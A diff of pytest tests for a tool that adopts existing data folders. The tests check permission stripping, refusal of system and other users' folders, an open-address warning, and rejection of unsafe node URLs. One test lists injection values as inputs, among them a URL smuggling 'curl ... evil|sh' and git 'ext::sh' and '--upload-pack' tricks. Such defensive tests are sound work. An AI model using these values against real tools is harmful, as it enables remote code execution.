@@ -15,7 +15,7 @@ import pytest
 
 from agent import adopt as adopting
 from agent import survey
-from agent.files import read_text
+from agent.files import opened, read_text
 from agent.journal import Adopted
 from agent.site import Site
 from core.errors import NoInstallationError
@@ -299,7 +299,7 @@ def test_folders_in_both_places_are_brought_together_and_apart_again(tmp_path: P
     (old / "dangling").symlink_to("/nowhere")
     before, data = tree(old), tree(place.data)
     said: list[str] = []
-    step = {"name": "models", "source": str(old)}
+    step = {"name": "models", "source": str(old), "owners": [os.geteuid()]}
     adopting.adopt(place, step, said.append)
     adopting.adopt(place, step, said.append)  # as after a kill
     assert (place.data / "models/loras/b").read_text() == "new b"
@@ -312,6 +312,59 @@ def test_folders_in_both_places_are_brought_together_and_apart_again(tmp_path: P
     assert tree(old) == before
     assert tree(place.data) == {name: each for name, each in data.items() if name != "models/checkpoints"}
     assert not Adopted(place).path.exists()
+
+
+def test_what_runs_as_its_owner_does_so_neither_afterwards_nor_when_it_is_put_back(tmp_path: Path) -> None:
+    place, old = site(tmp_path), tmp_path / "old/output"
+    old.mkdir(parents=True)
+    for name in ("a.png", "b.png"):
+        (old / name).write_text(name)
+        (old / name).chmod(0o6755)
+    old.chmod(0o2755)
+    adopting.adopt(place, {"name": "output", "source": str(old), "owners": [os.geteuid()]}, print)
+    data = place.data / "output"
+    assert [(data / name).stat().st_mode & 0o7777 for name in ("a.png", "b.png", ".")] == [0o775, 0o775, 0o2775]
+    (data / "new").write_text("put there by the service")
+    (data / "new").chmod(0o4700)
+    (data / "new").rename(data / "b.png")
+    adopting.unadopt(place, {}, print)
+    assert [(old / name).stat().st_mode & 0o7777 for name in ("a.png", "b.png", ".")] == [0o755, 0o4700, 0o2755]
+
+
+def test_files_of_others_are_left_to_them(tmp_path: Path) -> None:
+    (tmp_path / "theirs").write_text("")
+    (tmp_path / "theirs").chmod(0o600)
+    with opened(tmp_path) as here:
+        nobody: set[int] = set()
+        left = adopting._own_entries(here, tmp_path, ["theirs"], (0, 0), nobody, Adopted(site(tmp_path)))
+    assert left == 1
+    assert (tmp_path / "theirs").stat().st_mode & 0o777 == 0o600
+
+
+def test_a_folder_that_anybodys_process_names_is_not_taken(tmp_path: Path) -> None:
+    me = os.geteuid()
+    assert survey._foreign(tmp_path, {me}) == ""
+    assert survey._foreign(tmp_path, {me + 1}).startswith(f"it belongs to user {me}, ")
+    for each in ("/", "/etc", "/etc/ssl", "/usr/share", "/opt", "/var/lib", "/home", str(Path.home())):
+        assert survey._foreign(Path(each), {0, me}) == "it is the system's, or somebody's home"
+    folders = {"output": folder("output", real="/opt/hbob/private", rename=False, foreign="it belongs to user 7")}
+    found = proposed(folders=folders)
+    assert found.moves == {}
+    assert "hbob" not in found.snippet
+    assert found.left == (("output in /opt/hbob/private", "it belongs to user 7"),)
+
+
+def test_an_address_that_everybody_reaches_is_said_so() -> None:
+    found = proposed(argv=["--listen", "0.0.0.0"], processes=[{"pid": 1, "user": "anna", "unit": ""}])
+    (line,) = (line for line in found.snippet.splitlines() if line.startswith("listen"))
+    assert line == 'listen = "0.0.0.0"    # WHOEVER REACHES THIS ADDRESS CAN USE IT, without a password'
+
+
+def test_a_command_to_copy_runs_nothing_else() -> None:
+    urls = ["https://github.com/x/y;curl${IFS}evil|sh;#", "ext::sh -c id", "--upload-pack=x", "https://u:p@host/x"]
+    found = proposed(nodes=[found_node(f"n{number}", url=url) for number, url in enumerate(urls)])
+    assert found.add == ()
+    assert [what for what, _ in found.left] == ["node n0", "node n1", "node n2", "node n3"]
 
 
 def test_a_rename_overwrites_nothing_and_follows_no_link(tmp_path: Path) -> None:
